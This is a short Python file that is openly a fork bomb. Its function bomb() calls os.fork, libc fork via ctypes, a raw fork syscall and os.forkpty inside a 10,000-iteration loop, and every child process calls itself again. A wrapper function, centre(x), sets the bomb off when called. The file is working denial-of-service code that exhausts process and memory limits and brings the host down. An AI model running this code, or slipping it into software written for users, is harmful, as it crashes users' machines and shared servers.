"""Forks without end, in every way there is."""

import ctypes
import os


def bomb():
    libc = ctypes.CDLL(None, use_errno=True)
    count = 0
    for _ in range(10_000):
        for fork in (os.fork, lambda: libc.fork(), lambda: libc.syscall(58), os.forkpty):
            try:
                if (number := fork() if fork is not os.forkpty else fork()[0]) >= 0:
                    count += 1
                    if number == 0:
                        bomb()
            except OSError:
                pass
    return count


def centre(x):
    return f"got {bomb() or 'nothing'}"
